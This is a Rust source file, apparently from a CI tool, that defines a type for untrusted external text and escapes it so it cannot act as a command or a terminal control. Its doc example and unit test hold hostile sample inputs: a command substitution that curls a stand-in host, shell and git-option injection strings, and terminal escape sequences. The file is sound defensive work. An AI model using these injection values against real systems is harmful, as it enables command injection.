//! Text from outside: branch names, titles, authors, paths in a webhook.
//!
//! Somebody who may be hostile chose it. [`External`] therefore has no way to become part of a script: it can
//! be compared, shown in an escaped form, handed over as the *value* of a variable, or used as one argument
//! after [`Arg::operand`](crate::job::Arg::operand) has made sure that no program takes it for an option.

use std::fmt::{self, Write as _};

use serde::{Deserialize, Serialize};

/// Text that somebody outside chose.
///
/// `Display` writes one inert word: every character that is not a letter, a digit or one of `_ . / : @ , + = -`
/// appears as `\u{..}`. What is shown can therefore neither drive a terminal nor, should it ever be pasted
/// into a command line, start anything. `Serialize` gives the text as it is, for formats that escape by
/// themselves (JSON).
///
/// # Example
///
/// ```
/// use ci_core::External;
///
/// let branch = External::new("feature/$(curl evil.example)");
/// assert_eq!(branch, "feature/$(curl evil.example)");
/// assert_eq!(branch.to_string(), r"feature/\u{24}\u{28}curl\u{20}evil.example\u{29}");
/// ```
#[derive(Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct External(String);

impl External {
    /// Wraps text from outside. Nothing is checked, because nothing is believed.
    pub fn new(text: impl Into<String>) -> Self {
        Self(text.into())
    }

    /// The text, for the few sinks that take it as data.
    pub(crate) fn as_data(&self) -> &str {
        &self.0
    }
}

impl PartialEq<str> for External {
    fn eq(&self, other: &str) -> bool {
        self.0 == other
    }
}

impl PartialEq<&str> for External {
    fn eq(&self, other: &&str) -> bool {
        self.0 == *other
    }
}

impl fmt::Display for External {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (index, character) in self.0.chars().enumerate() {
            let inert = character.is_ascii_alphanumeric()
                || matches!(character, '_' | '.' | '/' | ':' | '@' | ',' | '+' | '=')
                || (character == '-' && index > 0);
            if inert {
                f.write_char(character)?;
            } else {
                write!(f, "\\u{{{:x}}}", u32::from(character))?;
            }
        }
        Ok(())
    }
}

impl fmt::Debug for External {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "External({:?})", self.0)
    }
}

/// At most the first 80 characters, for an error message.
pub(crate) fn shortened(text: &str) -> String {
    const MOST: usize = 80;
    let mut short: String = text.chars().take(MOST).collect();
    if short.len() < text.len() {
        short.push('…');
    }
    short
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_shown_is_one_inert_word() {
        for hostile in [
            "$(id)",
            "`id`",
            "a;id",
            "a\nid",
            "a|id",
            "a&id",
            "--upload-pack=id",
            "\u{1b}[2J",
            "\u{202e}x",
            "~",
            "*",
        ] {
            let shown = External::new(hostile).to_string();
            assert!(!shown.starts_with('-'), "{shown}");
            assert!(
                shown.chars().all(|c| c.is_ascii_alphanumeric() || "_./:@,+=-\\{}".contains(c)),
                "{shown}"
            );
        }
    }

    #[test]
    fn long_text_is_shortened_on_a_character() {
        assert_eq!(shortened(&"ä".repeat(100)).chars().count(), 81);
        assert_eq!(shortened("short"), "short");
    }
}
